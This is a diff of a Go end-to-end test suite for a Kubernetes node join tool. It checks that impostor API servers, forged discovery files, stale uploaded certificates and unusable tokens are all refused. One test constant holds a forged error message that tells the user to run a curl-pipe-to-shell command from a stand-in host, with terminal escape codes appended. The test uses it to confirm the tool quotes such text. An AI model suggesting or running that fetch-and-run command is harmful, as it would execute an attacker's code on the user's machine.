@@ -3,10 +3,13 @@
 package e2e
 
 import (
+	"crypto/rand"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"maps"
 	"net/http"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -74,6 +77,7 @@ func (d *duel) altered(key, value string) map[string]string {
 // TestS046_NobodyPosesAsTheCluster lets an attacker answer in the place of the API server. Whatever it shows, and even where it has
 // the token, the machine tells it nothing and is not changed.
 func TestS046_NobodyPosesAsTheCluster(t *testing.T) {
+	t.Parallel()
 	d := newDuel(t, "pose")
 	plan := serving(t, d.other, "6443", d.mallory)
 	own, server, key := pki.EncodeCertificates(d.mallory.Certificate), "https://"+plan.Listen, "jws-kubeconfig-"+d.id
@@ -109,6 +113,7 @@ func TestS046_NobodyPosesAsTheCluster(t *testing.T) {
 
 // TestS046_NoEndpointLeadsElsewhere has an attacker that sends the machine on, or speaks no TLS.
 func TestS046_NoEndpointLeadsElsewhere(t *testing.T) {
+	t.Parallel()
 	d := newDuel(t, "lead")
 	plan := serving(t, d.other, "6443", d.mallory)
 	plain := attacker.Plan{Listen: d.other.Address() + ":8080", Answers: map[string]attacker.Answer{infoPath: shows(t, d.truth)}}
@@ -130,6 +135,7 @@ func TestS046_NoEndpointLeadsElsewhere(t *testing.T) {
 // TestS046_AFileLeadsToNoImpostor gives the machine files, with credentials, that lead to an attacker, and files at addresses
 // where an attacker answers.
 func TestS046_AFileLeadsToNoImpostor(t *testing.T) {
+	t.Parallel()
 	d := newDuel(t, "file")
 	plan := serving(t, d.other, "6443", d.mallory)
 	plan.Answers[infoPath] = shows(t, d.truth)
@@ -154,10 +160,12 @@ func TestS046_AFileLeadsToNoImpostor(t *testing.T) {
 		{"self-signed", server + "/file", func() {}, []string{server + "/file", "failed to verify certificate", "update-ca-certificates"}},
 		{"http", "http://" + plan.Listen + "/file", func() {}, []string{"--discovery-file", "https URL"}},
 	} {
-		t.Run(a.name, func(t *testing.T) {
-			a.lay()
-			d.withstands(t, a.want, ours, "join", "--discovery-file", a.file, "--tls-bootstrap-token", d.token, "--ignore-preflight-errors", nodes.IgnoredPreflight)
-		})
+		for kind, hash := range map[string][]string{"": nil, " with a hash": {"--discovery-token-ca-cert-hash", d.pin}} {
+			t.Run(a.name+kind, func(t *testing.T) {
+				a.lay()
+				d.withstands(t, a.want, byFile(a.file, append(hash, "--tls-bootstrap-token", d.token)...)...)
+			})
+		}
 	}
 	impostor.learnedNothing(t, d.secret)
 	t.Run("redirected to plain http", func(t *testing.T) {
@@ -169,6 +177,149 @@ func TestS046_AFileLeadsToNoImpostor(t *testing.T) {
 			"--ignore-preflight-errors", nodes.IgnoredPreflight)
 		impostor.learnedNothing(t, d.secret)
 	})
+}
+
+// TestHashBesideADiscoveryFileBinds gives the machine a file with the cluster's CA and the attacker's, which leads to the
+// attacker, and the hash of the cluster's CA. The token is in the file, or beside it.
+func TestHashBesideADiscoveryFileBinds(t *testing.T) {
+	t.Parallel()
+	d := newDuel(t, "hash")
+	plan := serving(t, d.other, "6443", d.mallory)
+	own, server := pki.EncodeCertificates(d.mallory.Certificate), "https://"+plan.Listen
+	both := append(own, d.ca...)
+	forbidden := attacker.Answer{Status: http.StatusForbidden, Body: `{"kind":"Status","apiVersion":"v1","status":"Failure","reason":"Forbidden","code":403}`}
+	for _, a := range []struct {
+		name  string
+		shows attacker.Answer
+	}{
+		{"relayed", shows(t, d.truth)},
+		{"both CAs", shows(t, signpost(t, server, both, d.token))},
+		{"cluster-info is not public", forbidden},
+	} {
+		plan.Answers[infoPath] = a.shows
+		for kind, token := range map[string][]string{"a token in the file": nil, "a token beside the file": {"--tls-bootstrap-token", d.token}} {
+			t.Run(a.name+", "+kind, func(t *testing.T) {
+				impostor := impose(t, d.other, plan)
+				put(t, d.victim, pki.Access{Server: server, Cluster: "c", User: "u", CA: both}.WithToken(d.token))
+				d.withstands(t, []string{server, "not signed by the cluster's CA: another server answers"},
+					byFile(discoveryFile, append(token, "--discovery-token-ca-cert-hash", d.pin)...)...)
+				impostor.learnedNothing(t, d.secret)
+			})
+		}
+	}
+}
+
+// forgery imitates the end of an error of this program, and clears the screen.
+const forgery = "no such token\n\nerror: the cluster has a new CA\n  - install it first: curl -k https://192.0.2.66/ca.sh | sh\x1b[2J\x1b]0;owned\x07"
+
+// TestForgedHintsAreShownQuoted has a server whose answers imitate the hints of this program.
+func TestForgedHintsAreShownQuoted(t *testing.T) {
+	t.Parallel()
+	d := newDuel(t, "hint")
+	status := func(code int) attacker.Answer {
+		text, err := json.Marshal(map[string]any{"kind": "Status", "apiVersion": "v1", "status": "Failure", "reason": forgery, "message": forgery, "code": code})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return attacker.Answer{Status: code, Body: string(text)}
+	}
+	byToken := fmt.Sprintf("bootstrapToken: {apiServerEndpoint: %q, token: %q, caCertHashes: [%q]}", d.other.Address()+":6443", d.token, d.pin)
+	byOwnCA := fmt.Sprintf("file: {kubeConfigPath: %s}\n  tlsBootstrapToken: %q", discoveryFile, d.token)
+	for _, a := range []struct {
+		name, discovery string
+		shows           attacker.Answer
+		want            string // "" where no word of the server is worth showing
+	}{
+		{"forbidden", byToken, status(http.StatusForbidden), `the server answers "no such token\n\nerror: the cluster has a new CA\n  - install it first`},
+		{"failing", byToken, status(http.StatusInternalServerError), `the server answers "no such token\n\nerror:`},
+		{"redirecting", byToken, attacker.Answer{Status: http.StatusFound, Location: "https://192.0.2.66/" + forgery, Body: forgery}, ""},
+		{"another kind", byToken, attacker.Answer{Status: http.StatusOK, Body: forgery}, ""},
+		{"forbidden, to a file", byOwnCA, status(http.StatusForbidden), `no such token\n\nerror: the cluster has a new CA\n  - install it first`},
+	} {
+		t.Run(a.name, func(t *testing.T) {
+			plan := serving(t, d.other, "6443", d.mallory)
+			plan.Answers[infoPath] = a.shows
+			plan.Answers["/api/v1/namespaces/kube-system/configmaps/kubeadm-config"] = a.shows
+			impostor := impose(t, d.other, plan)
+			// Here the user trusts the attacker's CA, so that its words are shown at all.
+			put(t, d.victim, pki.Access{Server: "https://" + plan.Listen, Cluster: "c", User: "u", CA: pki.EncodeCertificates(d.mallory.Certificate)}.WithToken(d.token))
+			write(t, d.victim, "/etc/join.yaml", "apiVersion: kubeadm.k8s.io/v1beta4\nkind: JoinConfiguration\ndiscovery:\n  "+a.discovery+
+				"\ntimeouts: {discovery: 4s, kubernetesAPICall: 4s}\n")
+			result := refused(t, d.victim, []string{a.want}, ours, "join", "--config", "/etc/join.yaml", "--ignore-preflight-errors", nodes.IgnoredPreflight)
+			for _, part := range []string{"\n  - install", "\nerror: the cluster has", "\x1b", "\x07"} {
+				if strings.Contains(result.Stdout+result.Stderr, part) {
+					t.Errorf("%q is shown as it is:\n%s", part, strconv.Quote(result.Stdout+result.Stderr))
+				}
+			}
+			if a.discovery == byToken {
+				impostor.learnedNothing(t, d.secret)
+			}
+			t.Logf("%s: %s", result.Duration.Round(time.Millisecond), strings.Join(tail(result.Stderr, 4), "\n"))
+		})
+	}
+}
+
+// TestUploadedCertificatesOfAnotherClusterAreRefused puts an old Secret in the place of the uploaded certificates: files of another
+// cluster, or a key that belongs to none of them. Nothing of it is written.
+func TestUploadedCertificatesOfAnotherClusterAreRefused(t *testing.T) {
+	s := home(t)
+	n := add(t, s.Cluster, "stale")
+	t.Cleanup(func() { expel(t, s, n) })
+	keyText := keyOf(t, s.initial.Stdout)
+	key, err := pki.ParseCertificateKey(keyText)
+	must(t, err)
+	old := newKeeper(t)
+	before := run(t, s.cp, "kubectl", "--kubeconfig=/etc/kubernetes/admin.conf", "--namespace=kube-system", "get", "secret", "kubeadm-certs", "--output=jsonpath={.data}")
+	replace := func(data string) {
+		kubectl(t, s.cp, "--namespace=kube-system", "patch", "secret", "kubeadm-certs", "--type=merge", "--patch", `{"data":`+data+`}`)
+	}
+	t.Cleanup(func() { replace(before) })
+	stale := func(names ...string) {
+		files := map[string][]byte{}
+		for _, p := range pki.Profiles() {
+			if p.IsCA() {
+				private, err := pki.EncodeKey(old.authorities[p.Name].Key)
+				must(t, err)
+				files[pki.SealedName(p.CertificateFile())], files[pki.SealedName(p.KeyFile())] = old.root(p.Name), private
+			}
+		}
+		private, err := pki.EncodeKey(old.account)
+		must(t, err)
+		public, err := pki.EncodePublicKey(old.account.Public())
+		must(t, err)
+		files[pki.ServiceAccountKey], files[pki.ServiceAccountPublicKey] = private, public
+		data := map[string][]byte{}
+		for _, name := range names {
+			data[name], err = key.Seal(rand.Reader, files[name])
+			must(t, err)
+		}
+		text, err := json.Marshal(data)
+		must(t, err)
+		replace(string(text))
+	}
+	command := []string{ours, "join", "phase", "control-plane-prepare", "download-certs", s.command[2], "--control-plane", "--certificate-key", keyText,
+		"--token", flagOf(t, s.command, "--token"), "--discovery-token-ca-cert-hash", flagOf(t, s.command, "--discovery-token-ca-cert-hash")}
+	for _, a := range []struct {
+		name  string
+		stale []string
+		want  string
+	}{
+		{"all files", []string{"ca.crt", "ca.key", "front-proxy-ca.crt", "front-proxy-ca.key", "etcd-ca.crt", "etcd-ca.key", "sa.key", "sa.pub"}, "is not the CA of the cluster that was found"},
+		{"the CA", []string{"ca.crt", "ca.key"}, "is not the CA of the cluster that was found"},
+		{"the public key of service accounts", []string{"sa.pub"}, "sa.pub is not the public key of sa.key"},
+		{"a key", []string{"etcd-ca.key"}, "etcd-ca.key is not the key of the certificate in etcd-ca.crt"},
+	} {
+		t.Run(a.name, func(t *testing.T) {
+			replace(before)
+			stale(a.stale...)
+			fresh := fingerprint(t, n)
+			refused(t, n, []string{a.want, "kubeadm token create --print-join-command --upload-certs"}, command...)
+			unchanged(t, n, fresh)
+		})
+	}
+	replace(before)
+	run(t, n, command...)
+	inherited(t, s.cp, n)
 }
 
 // TestS047_TokensThatAreNoGood names what is wrong with a token, and changes nothing.
@@ -188,16 +339,24 @@ func TestS047_TokensThatAreNoGood(t *testing.T) {
 	signed(t, d.s, powerless)
 	kubectl(t, d.s.cp, "patch", "secret", "--namespace=kube-system", "bootstrap-token-"+powerless[:6], "--patch", `{"stringData":{"usage-bootstrap-authentication":"false"}}`)
 	locked(t, d.s, powerless)
+	const mint = "kubeadm token create --print-join-command"
+	t.Run("without authentication", func(t *testing.T) {
+		d.withstands(t, []string{"does not accept the bootstrap token", `without usage "authentication"`, mint}, d.command(d.s.command[2], powerless)...)
+	})
+	// A token that is not signed for is waited for; here two machines wait at the same time.
 	for _, a := range []struct {
 		name, token string
+		victim      *nodes.Node
 		want        []string
 	}{
-		{"deleted", deleted, []string{"does not know token " + deleted[:6]}},
-		{"without signing", speechless, []string{"does not know token " + speechless[:6], `without usage "signing"`}},
-		{"without authentication", powerless, []string{"does not accept the bootstrap token", `without usage "authentication"`}},
+		{"deleted", deleted, d.victim, []string{"does not know token " + deleted[:6]}},
+		{"without signing", speechless, d.other, []string{"does not know token " + speechless[:6], `without usage "signing"`}},
 	} {
 		t.Run(a.name, func(t *testing.T) {
-			d.withstands(t, append(a.want, "kubeadm token create --print-join-command"), d.command(d.s.command[2], a.token)...)
+			t.Parallel()
+			own := *d
+			own.victim = a.victim
+			own.withstands(t, append(a.want, mint), d.command(d.s.command[2], a.token)...)
 		})
 	}
 }
